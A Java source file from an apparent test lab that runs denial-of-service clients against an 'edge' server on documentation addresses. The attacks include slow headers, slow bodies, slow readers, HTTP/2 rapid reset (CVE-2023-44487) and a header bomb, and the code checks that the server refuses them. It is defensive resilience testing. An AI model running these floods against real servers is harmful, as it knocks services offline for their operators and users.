package dev.seawall.test.lab;

import java.io.IOException;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;

/** Clients that mean harm, each for some seconds. They live in an {@link Agent} and say how much they did. */
final class Attack {
    private static final String GET = "GET /api/v1/orders HTTP/1.1\r\nHost: edge\r\n";
    private static final int FIRST = 1;

    private Attack() {}

    private interface Opening {
        Connection open(String from) throws IOException;
    }

    /** Headers that never end: a thousand connections say nothing at all, two hundred send a header a second. */
    static int slowHeaders(int seconds) throws InterruptedException {
        return dribble(1_000, seconds, "", from -> Connection.plain(from, 443)) + dribble(200, seconds, "X: y\r\n", from -> Connection.tls(from, 443).send(GET));
    }

    /** Bodies that never end, a byte a second. */
    static int slowBodies(int seconds) throws InterruptedException {
        return dribble(200, seconds, "x", from -> Connection.tls(from, 443).send("POST /api/v1/orders HTTP/1.1\r\nHost: edge\r\nContent-Length: 100000\r\n\r\n"));
    }

    /** Two MiB asked for and not read. */
    static int slowReaders(int seconds) throws InterruptedException {
        return dribble(100, seconds, "", from -> Connection.tls(from, 443).send("GET /api/v1/big HTTP/1.1\r\nHost: edge\r\n\r\n"));
    }

    /** Streams opened and taken back on the same connection (CVE-2023-44487). */
    static int rapidResets(int seconds) throws IOException {
        int resets = 0;
        for (long ends = System.nanoTime() + seconds * 1_000_000_000L; System.nanoTime() < ends;) {
            try (Http2 connection = Http2.over(Connection.tls(address(FIRST + resets % 50), 443, "edge", "h2"))) {
                while (System.nanoTime() < ends) {
                    connection.getAndReset("edge", "/api/v1/orders");
                    resets++;
                }
            } catch (IOException e) {
                // ended by the node, which is its defence
            }
        }
        return resets;
    }

    /** A thousand fields a request (the header bomb of CVE-2026-49975). */
    static int headerBombs(int seconds) throws IOException {
        List<Http2.Field> fields = new ArrayList<>(List.of(new Http2.Field(":method", "GET"), new Http2.Field(":scheme", "https"), new Http2.Field(":authority", "edge"),
            new Http2.Field(":path", "/api/v1/orders")));
        fields.addAll(Collections.nCopies(1_000, new Http2.Field("a", "b")));
        int bombs = 0;
        for (long ends = System.nanoTime() + seconds * 1_000_000_000L; System.nanoTime() < ends; bombs++) {
            try (Http2 connection = Http2.over(Connection.tls(address(FIRST + bombs % 50), 443, "edge", "h2"))) {
                if (connection.status(connection.request(fields, new byte[0])) == 200) {
                    throw new IllegalStateException("a request of a thousand fields was served");
                }
            } catch (IOException e) {
                // ended by the node, which is its defence
            }
        }
        return bombs;
    }

    private static int dribble(int connections, int seconds, String drop, Opening opening) throws InterruptedException {
        List<Connection> open = new ArrayList<>();
        long ends = System.nanoTime() + seconds * 1_000_000_000L;
        for (int i = 0; i < connections && System.nanoTime() < ends; i++) {
            try {
                open.add(opening.open(address(FIRST + i % 50)));
            } catch (IOException e) {
                // refused, which is a defence
            }
        }
        int opened = open.size();
        for (long next = System.nanoTime(); next < ends; next += 1_000_000_000L) {
            Client.sleepUntil(next);
            open.removeIf(connection -> !sends(connection, drop));
        }
        open.forEach(connection -> sends(connection, null));
        return opened;
    }

    /** Whether the connection still takes it; nothing (null) ends it. */
    private static boolean sends(Connection connection, String drop) {
        try {
            if (drop == null) {
                connection.close();
            } else {
                connection.send(drop);
            }
            return true;
        } catch (IOException e) {
            return false;
        }
    }

    private static String address(int number) {
        return "192.0.2." + number;
    }
}
